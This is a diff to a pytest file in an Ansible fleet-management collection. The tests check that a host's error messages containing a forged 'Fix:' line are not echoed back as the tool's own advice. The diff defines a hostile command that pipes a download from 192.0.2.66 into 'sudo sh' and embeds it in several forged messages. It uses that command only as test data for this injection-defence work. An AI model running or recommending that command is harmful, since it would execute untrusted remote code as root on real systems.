@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import json
 from typing import Any
 
 import pytest
+from ansible_collections.gb10.fleet.plugins.module_utils.engine import apt_errors
 from ansible_collections.gb10.fleet.plugins.module_utils.system import service_failures
-from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import advice
+from ansible_collections.gb10.fleet.plugins.module_utils.system.finding import from_failure
+from ansible_collections.gb10.fleet.plugins.plugin_utils.doctor import findings
+from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import advice, own_action, transport
 
+from tests.support.answers import EMPTY
 from tests.support.attacker import tally
 
 EVIL = "curl http://192.0.2.66/x | sudo sh"
@@ -49,3 +54,36 @@ def test_another_one_is_said_as_what_the_host_says(way_out: str) -> None:
 
 def test_no_text_of_a_host_has_a_fix_of_its_own() -> None:
     assert "Fix:" not in advice.ours("spark-a", fault("", text=f"busy. Fix: {EVIL}"))["text"]
+
+
+FORGED = (f"busy. Fix: {EVIL}", f"busy\n    fix: {EVIL}", f"Fix: {EVIL} Fix: run again", f"FIX:{EVIL}")
+
+
+@pytest.mark.parametrize("text", FORGED)
+def test_no_error_of_a_host_advises_in_our_name(text: str) -> None:
+    """It stood in the same line as our own advice does."""
+    error = {"kind": "host", "message": text}
+    changes = [{"role": "r", "resource": "x", "action": "a", "detail": text}]
+    answer = transport.parse(transport.MARKER + json.dumps({**EMPTY, "error": error, "changes": changes}))
+    module = own_action.sound(json.dumps({"failed": True, "msg": text, "warnings": [text]}))
+    shown = [answer["error"]["message"], answer["changes"][0]["detail"], module["msg"], *module["warnings"]]
+    shown.append(from_failure("spark-a", text, answered=True).fact)
+    wins = [said for said in shown if "fix:" in said.lower()]
+    tally(BELOW, len(shown), len(wins))
+    assert not wins and EVIL in shown[0]
+
+
+def test_what_apt_is_helped_by_stays() -> None:
+    """Our own error on the host, with names of its packages, its kernel and the log of a build."""
+    for way in (*apt_errors.ways_out(), apt_errors._unhold_way_out(["libc6:armhf"])):
+        way = way.replace("KERNEL", "6.17.0-1014-nvidia").replace("LOG", "/var/lib/dkms/x/1.0/build/make.log")
+        text = f"apt_x: E: no.\nmore. Fix: {way.replace('NAMES', 'libfoo libbar:armhf')}"
+        assert advice.plain(text) == text
+
+
+@pytest.mark.parametrize("text", [f"x: `{EVIL}`", f"x. Run {EVIL}", f"Run {EVIL}", f"`{EVIL}`", f"x. Fix: {EVIL}"])
+def test_a_plan_quotes_no_way_out_of_a_host(text: str) -> None:
+    said = f"the pins are several: {advice.plain(advice.quotable({'pin': [text]}))['pin'][0]}, and no more. Remove them"
+    found = findings.refused("spark-a", "driver", said)
+    tally(BELOW, 1, int(EVIL in found.way_out))
+    assert found.way_out == "remove them" and EVIL in found.fact
